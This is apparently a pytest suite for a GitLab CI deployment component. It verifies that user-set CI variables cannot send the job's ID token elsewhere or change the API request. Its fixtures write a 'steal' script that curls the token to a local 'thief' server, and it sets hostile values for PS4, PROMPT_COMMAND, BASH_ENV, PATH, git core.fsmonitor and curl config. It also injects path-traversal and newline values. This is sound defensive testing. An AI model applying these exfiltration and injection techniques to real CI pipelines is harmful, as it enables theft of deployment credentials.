"""No variable that a GitLab user can set sends the job's token elsewhere, or changes what it asks for."""

import itertools
import json
import os
import re
import shutil
import subprocess
from collections.abc import Iterator, Mapping
from contextlib import ExitStack
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any, Final
from urllib.parse import quote

import pytest

from stand import ci_variables, component, places
from stand.ci_variables import WAYS, Variables
from stand.shells import Ended, Machine
from support.each_shell import EACH_SHELL
from support.signed_api import ROLE, Session
from support.thief import RIGHT, WRONG, Server, serve

TOKEN: Final = "eyJhbGciOiJSUzI1NiJ9.eyJqdGkiOiJjYW5hcnkifQ.c2lnbmF0dXJl"
ID: Final = "01M83C6AM7KY87WNER1QH3A4Y7"
OTHER_ID: Final = "01M83C6AM7KY87WNER1QH3A4Y8"
DONE: Final = {
    "Sluicegate-Id": ID,
    "Sluicegate-Status": "succeeded",
    "Sluicegate-Revision": "4",
    "Sluicegate-Final": "true",
}

CURL: Final = """
    http_proxy HTTP_PROXY https_proxy HTTPS_PROXY all_proxy ALL_PROXY no_proxy NO_PROXY COLUMNS
    CURL_CA_BUNDLE CURL_HOME CURL_SSL_BACKEND HOME NETRC QLOGDIR SSL_CERT_DIR SSL_CERT_FILE SSLKEYLOGFILE
    USER XDG_CONFIG_HOME OPENSSL_CONF OPENSSL_MODULES OPENSSL_ENGINES
"""
"""curl(1), "ENVIRONMENT", of curl 8.12, and openssl-env(7) of OpenSSL 3, read on 2026-11-26."""

SHELL: Final = """
    CDPATH ENV FCEDIT HISTFILE IFS LANG LC_ALL LC_COLLATE LC_CTYPE LC_MESSAGES MAIL MAILPATH NLSPATH
    OLDPWD OPTARG OPTIND PATH PS1 PS2 PS4 PWD SHELL TERM TMPDIR TZ BASHPID BASH_COMPAT BASH_ENV
    BASH_XTRACEFD COPROC EXECIGNORE FIGNORE GLOBIGNORE HOSTFILE IGNOREEOF INPUTRC LINENO POSIXLY_CORRECT
    PROMPT_COMMAND RANDOM REPLY SECONDS TIMEFORMAT TMOUT
"""
"""POSIX's sh, "ENVIRONMENT VARIABLES", dash(1) and bash(1), "Shell Variables", read on 2026-11-26."""

TOOLS: Final = """
    AWKPATH AWKLIBPATH GAWK_READ_TIMEOUT GREP_OPTIONS GREP_COLORS POSIXLY_CORRECT TZDIR _POSIX2_VERSION
    DATEMSK LD_LIBRARY_PATH LD_BIND_NOW LD_DEBUG_OUTPUT LOCPATH GCONV_PATH HOSTALIASES LOCALDOMAIN
    RES_OPTIONS MALLOC_ARENA_MAX GETCONF_DIR NIS_PATH
"""
"""gawk(1), grep(1), coreutils' and glibc's manuals, ld.so(8), resolv.conf(5)."""

RUNNER: Final = """
    CI_API_V4_URL CI_SERVER_URL CI_SERVER_FQDN CI_SERVER_HOST CI_PROJECT_URL CI_PROJECT_DIR CI_BUILDS_DIR
    CI_PIPELINE_ID CI_JOB_URL CI_JOB_STATUS CI_JOB_TIMEOUT CI_JOB_NAME CI_ENVIRONMENT_NAME GITLAB_USER_ID
    GITLAB_USER_LOGIN GIT_STRATEGY GIT_DEPTH FF_USE_NEW_BASH_EVAL_STRATEGY FF_POSIXLY_CORRECT_ESCAPES
    FF_SCRIPT_SECTIONS DOCKER_AUTH_CONFIG
"""

AWS: Final = """
    AWS_ACCESS_KEY_ID AWS_SECRET_ACCESS_KEY AWS_SESSION_TOKEN AWS_PROFILE AWS_CONFIG_FILE AWS_REGION
    AWS_SHARED_CREDENTIALS_FILE AWS_DEFAULT_REGION AWS_ROLE_ARN AWS_ROLE_SESSION_NAME AWS_ENDPOINT_URL
    AWS_WEB_IDENTITY_TOKEN_FILE AWS_ENDPOINT_URL_STS AWS_STS_REGIONAL_ENDPOINTS AWS_CA_BUNDLE
"""
"""AWS SDKs and Tools reference guide, "Environment variables supported", read on 2026-11-26."""

ENDS_THE_JOB: Final = {
    "CI_DEBUG_TRACE": "true",
    "CI_JOB_ID": "../../302",
    "FUNCNEST": "1",
    "SLUICEGATE_ID_TOKEN": "eyJ.of.another",
    "SLUICEGATE_STS_TOKEN": "eyJ.of.another",
    "SHELLOPTS": "xtrace",
    "BASHOPTS": "extdebug",
}
"""What a person can do with these is to make the job fail."""

BEFORE_THE_SCRIPT: Final = ("BASH_ENV", "LD_PRELOAD", "PATH", "GIT_CONFIG_COUNT", "CI_DEBUG_TRACE")
"""What the runner, or the shell that it starts, reads before the first line of the script."""

TOOLS_OF_THE_SCRIPT: Final = [
    "env",
    "sed",
    "cat",
    "curl",
    "date",
    "mkdir",
    "rm",
    "mv",
    "tr",
    "awk",
    "head",
    "wc",
    "dd",
    "sleep",
    "sha256sum",
    "cut",
    "base64",
]


def names_of_the_script() -> set[str]:
    """All that the script reads or sets, and what an input of it could be called."""
    script = job().script
    read = set(re.findall(r"\$\{?([A-Za-z_][A-Za-z0-9_]*)", script))
    set_ = set(re.findall(r"(?<![\w.\"\\?&%])([a-z_]+)=", script))
    inputs = {
        f"{prefix}{name.upper()}" for name in component.header() for prefix in ("", "SLUICEGATE_INPUT_")
    }
    return read | set_ | inputs


def job(**inputs: Any) -> component.Job:
    about = {"url": "https://127.0.0.2:9/v1", "audience": "https://deploy.example.com", "action": "rollback"}
    return component.job(**{**about, "function": "orders-api", "stage": "prod", **inputs})


@dataclass(frozen=True)
class Scene:
    """A job of one machine, the API that it may call, and somebody else's server."""

    machine: Machine
    api: Server
    thief: Server
    nest: Path
    """The thief's files, as an earlier job's artifact could bring them."""

    def run(self, given: Variables, **inputs: Any) -> Ended:
        self.api.received.clear()
        about = {"url": self.api.url, "ca_file": str(self.api.ca), **inputs}
        return self.machine.start(job(**about), TOKEN, given=given).wait()

    def hostile(self, name: str) -> str:
        """The worst value for this variable that we know."""
        directories = {
            "CURL_HOME",
            "HOME",
            "XDG_CONFIG_HOME",
            "PATH",
            "CDPATH",
            "TMPDIR",
            "PWD",
            "LD_LIBRARY_PATH",
        }
        if name in directories:
            return f"{self.nest}:/usr/bin:/bin" if name == "PATH" else str(self.nest)
        values = {
            "CURL_CA_BUNDLE": self.thief.ca,
            "SSL_CERT_FILE": self.thief.ca,
            "SSL_CERT_DIR": self.nest,
            "SSLKEYLOGFILE": self.nest / "keys.log",
            "HOSTALIASES": self.nest / "hosts",
            "NETRC": self.nest / ".netrc",
            "ENV": self.nest / "steal",
            "no_proxy": "nowhere.example.com",
            "NO_PROXY": "nowhere.example.com",
            "IFS": "/.:",
            "OPTIND": "2",
            "PS4": f"$({self.nest}/steal)",
            "PROMPT_COMMAND": f"{self.nest}/steal",
            "EXECIGNORE": "*/sed:*/env",
            "CI_JOB_STATUS": "canceled",
            "CI_JOB_TIMEOUT": "9" * 30,
            "CURL_SSL_BACKEND": "gnutls",
            "ACTION": "approve",
            "SLUICEGATE_INPUT_ACTION": "approve",
            "SLUICEGATE_INPUT_DEPLOYMENT": OTHER_ID,
            "SLUICEGATE_INPUT_STAGE": "staging",
        }
        return str(values.get(name, self.thief.url))

    def nothing_stolen(self) -> None:
        assert self.thief.received == []
        assert not (self.nest / "keys.log").exists()

    def asked(self) -> list[Any]:
        """The requests at the API: method, path, body."""
        lines = [(request.split(" ", 2), request.rsplit("\n\n", 1)[1]) for request in self.api.received]
        return [(line[0], line[1], json.loads(body) if body else None) for line, body in lines]


ROLLBACK: Final[list[Any]] = [
    ("POST", "/v1/deployments", {"action": "rollback", "function": "orders-api", "stage": "prod"})
]


@pytest.fixture(params=EACH_SHELL)
def scene(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[Scene]:
    machine = Machine.with_shell(request.param, tmp_path)
    nest = machine.directory / "nest"
    nest.mkdir()
    with ExitStack() as stack:
        api = stack.enter_context(serve(tmp_path, "api", RIGHT, DONE, tls=True))
        thief = stack.enter_context(serve(tmp_path, "thief", WRONG, DONE, tls=False))
        curl = shutil.which("curl")
        steal = f'#!/bin/sh\n{curl} -qs --data "$SLUICEGATE_ID_TOKEN${{token:-}}" {thief.url}/taken\n'
        for name in (*TOOLS_OF_THE_SCRIPT, "steal"):
            (nest / name).write_text(steal)
            (nest / name).chmod(0o755)
        for name in (".curlrc", "curlrc"):
            (nest / name).write_text(f'proxy = "{thief.url}"\ninsecure\n')
        (nest / ".netrc").write_text("default login thief password thief\n")
        yield Scene(machine, api, thief, nest)


def everything(scene: Scene) -> dict[str, str]:
    names = names_of_the_script() | set(f"{CURL} {SHELL} {TOOLS} {RUNNER}".split())
    left_out = set(ENDS_THE_JOB) | ({"BASH_ENV"} if "bash" in scene.machine.shell else set())
    return {name: scene.hostile(name) for name in sorted(names - left_out)}


QUICK: Final = {"dotenv", "pipeline"}


@pytest.mark.parametrize(
    "way", [pytest.param(way, marks=() if way in QUICK else pytest.mark.extended) for way in WAYS]
)
def test_all_variables_at_once_change_nothing(scene: Scene, way: str) -> None:
    ended = scene.run(Variables(**{way: everything(scene)}))
    scene.nothing_stolen()
    assert ended.code == 0, ended.log
    assert scene.asked() == ROLLBACK
    assert f"Authorization: Bearer {TOKEN}\n" in scene.api.received[0]


@pytest.mark.parametrize(
    "way", [pytest.param(way, marks=() if way == "pipeline" else pytest.mark.extended) for way in WAYS]
)
def test_all_variables_at_once_do_not_change_who_gets_the_credentials(
    scene: Scene, tmp_path: Path, way: str
) -> None:
    """AWS's own variables too: neither STS nor the role is one's to choose."""
    session = Session.new(900)
    given = {**everything(scene), **{name: scene.hostile(name) for name in AWS.split()}}
    with serve(tmp_path, "sts", RIGHT, {}, tls=True, answer=session.document()) as sts:
        ca = tmp_path / "both.pem"
        ca.write_text(scene.api.ca.read_text() + sts.ca.read_text())
        inputs = {
            "auth": "iam+token",
            "role_arn": ROLE,
            "sts_audience": "https://sts.example.com",
            "region": "eu-central-1",
            "sts_url": sts.url.removesuffix("/v1"),
        }
        ended = scene.run(Variables(**{way: given}), ca_file=str(ca), **inputs)
        scene.nothing_stolen()
        assert ended.code == 0, ended.log
        (assumed,) = sts.received
    assert assumed.startswith("POST / ")
    assert f"&RoleArn={quote(ROLE, safe='')}&RoleSessionName=project-0-job-0&" in assumed
    assert f"&WebIdentityToken={TOKEN}" in assumed
    ((method, path, body),) = scene.asked()
    assert (method, path) == ("POST", "/v1/iam/deployments")
    assert body == {**ROLLBACK[0][2], "idempotency_key": "sluicegate-job-302"}
    assert f"\nX-Amz-Security-Token: {session.token}\n" in scene.api.received[0]
    assert f"\nSluicegate-Id-Token: {TOKEN}\n" in scene.api.received[0]
    assert f"Credential={session.access_key}/" in scene.api.received[0]


@pytest.mark.extended
def test_a_few_variables_by_themselves_change_nothing(scene: Scene) -> None:
    """Among all of them, one could hide what another one does."""
    hostile = list(everything(scene).items())
    for first in range(0, len(hostile), 24):
        few = dict(hostile[first : first + 24])
        ended = scene.run(Variables(pipeline=few))
        scene.nothing_stolen()
        assert ended.code == 0, (few, ended.log)
        assert scene.asked() == ROLLBACK, few


@pytest.mark.parametrize("name", ENDS_THE_JOB)
def test_some_variables_end_the_job_and_that_is_all(scene: Scene, name: str) -> None:
    for value in (ENDS_THE_JOB[name], scene.thief.url):
        ended = scene.run(Variables(pipeline={name: value}))
        scene.nothing_stolen()
        assert scene.asked() in ([], ROLLBACK), ended.log


def test_lines_within_a_value_unset_neither_functions_nor_what_the_job_keeps(scene: Scene) -> None:
    names = sorted(names_of_the_script() | set(re.findall(r"^(\w+)\(\)", job().script, re.M)))
    lines = "x\n" + "".join(f"{name}=y\n" for name in names)
    ended = scene.run(Variables(pipeline={"MANY": lines, "many": lines}))
    scene.nothing_stolen()
    assert ended.code == 0, ended.log
    assert scene.asked() == ROLLBACK


def test_keywords_of_a_base_and_of_the_including_file_change_nothing(scene: Scene) -> None:
    """GitLab merges hashes, and a job's own keywords win over its base's: docs.gitlab.com/ci/yaml."""
    base: Mapping[str, Any] = {
        "before_script": [f"{scene.nest}/steal"],
        "after_script": [f"{scene.nest}/steal"],
        "script": [f"{scene.nest}/steal"],
        "variables": everything(scene),
    }
    plain = job(url=scene.api.url, ca_file=str(scene.api.ca))
    extended = replace(plain, keywords={**base, **plain.keywords})
    ended = scene.machine.start(extended, TOKEN).wait()
    scene.machine.after(extended, TOKEN, "success")
    scene.nothing_stolen()
    assert ended.code == 0, ended.log


# Approvals


def test_only_the_reviewed_file_says_what_is_approved(scene: Scene) -> None:
    approval = {"action": "approve", "function": "", "stage": "", "deployment": ID}
    ended = scene.run(Variables(pipeline=everything(scene)), **approval)
    assert ended.code == 0, ended.log
    assert scene.asked() == [("POST", f"/v1/deployments/{ID}/approve", {})]


def test_a_variable_gives_the_deployment_where_the_file_says_so_and_no_more(scene: Scene) -> None:
    approval = {"action": "approve", "function": "", "stage": "", "deployment": "$DEPLOYMENT"}
    assert scene.run(Variables(pipeline={"DEPLOYMENT": OTHER_ID}), **approval).code == 0
    assert scene.asked() == [("POST", f"/v1/deployments/{OTHER_ID}/approve", {})]
    for path in ("", f"{OTHER_ID}/abort?", "../whoami", f"{OTHER_ID}\naction=abort", "$DEPLOYMENT"):
        ended = scene.run(Variables(pipeline={"DEPLOYMENT": path}), **approval)
        assert ended.code == 2, ended.log
        assert scene.api.received == []


@pytest.mark.parametrize("token", ["$SLUICEGATE_ID_TOKEN", "a${SLUICEGATE_ID_TOKEN}b", "%CI_JOB_TOKEN%"])
@pytest.mark.parametrize("name", ["release", "reason"])
def test_no_token_gets_into_the_record(scene: Scene, name: str, token: str) -> None:
    """GitLab expands variables within variables, so a person who may give a reason may quote the token."""
    ended = scene.run(Variables(pipeline={"TEXT": token}), **{name: "by hand: $TEXT"})
    assert ended.code == 2
    assert "an input contains a token of this job" in ended.log
    assert TOKEN not in ended.log
    assert scene.api.received == []


# GitLab's order


def test_variables_rank_as_gitlab_documents_it() -> None:
    for lower, way in itertools.pairwise(WAYS):
        given = Variables(**{lower: {"A": lower}, way: {"A": way}})
        assert ci_variables.of_job({}, {"A": "token"}, {"A": "predefined"}, given)["A"] == way
    assert ci_variables.of_job({}, {"A": "token"}, {"A": "predefined"}, Variables())["A"] == "token"


def test_variables_are_expanded_as_gitlab_documents_it() -> None:
    given = Variables(
        dotenv={"A": "$B-${C}-%B%-$NONE.", "LOOP": "$LOOP"}, project={"B": "b$C"}, pipeline={"C": "c"}
    )
    assert (
        ci_variables.of_job({}, {}, {}, given).items()
        >= {"A": "bc-c-bc-.", "B": "bc", "LOOP": "$LOOP"}.items()
    )


# What no job can prevent


@pytest.mark.parametrize("page", ["docs/explanation/security.md", "docs/start/connect.md"])
def test_the_pages_say_what_a_job_cannot_prevent(page: str) -> None:
    text = (places.ROOT / page).read_text()
    for name in (*BEFORE_THE_SCRIPT, "ci_pipeline_variables_minimum_override_role", "no_one_allowed"):
        assert f"`{name}`" in text, name


@pytest.mark.parametrize("name", ["BASH_ENV", "PATH", "CI_DEBUG_TRACE", "GIT_CONFIG_COUNT"])
def test_what_acts_before_the_script_takes_the_token(tmp_path: Path, name: str) -> None:
    """If this test fails, the pages warn of something that no longer is so."""
    machine = Machine.with_shell("bash", tmp_path)
    with serve(tmp_path, "thief", WRONG, DONE, tls=False) as thief:
        steal = tmp_path / "nest" / "grep"
        steal.parent.mkdir()
        steal.write_text(f'#!/bin/sh\n{shutil.which("curl")} -qs --data "$SLUICEGATE_ID_TOKEN" {thief.url}\n')
        steal.chmod(0o755)
        pipeline = {
            "BASH_ENV": {"BASH_ENV": f"$({steal})"},
            "PATH": {"PATH": f"{steal.parent}:/usr/bin:/bin"},
            "CI_DEBUG_TRACE": {"CI_DEBUG_TRACE": "true", "PS4": f"$({steal})"},
            "GIT_CONFIG_COUNT": {
                "GIT_CONFIG_COUNT": "1",
                "GIT_CONFIG_KEY_0": "core.fsmonitor",
                "GIT_CONFIG_VALUE_0": str(steal),
            },
        }[name]
        if name == "GIT_CONFIG_COUNT":
            check_out(tmp_path / "checkout", {"SLUICEGATE_ID_TOKEN": TOKEN, **pipeline})
        else:
            machine.start(job(function=""), TOKEN, given=Variables(pipeline=pipeline)).wait()
        assert any(TOKEN in request for request in thief.received)


def check_out(directory: Path, variables: dict[str, str]) -> None:
    """As the runner's helper does, with the job's variables: gitlab-runner, shells/abstract.go."""
    subprocess.run(["git", "init", "--quiet", directory], check=True)
    subprocess.run(["git", "clean", "-ffdx"], cwd=directory, env={**os.environ, **variables}, check=True)
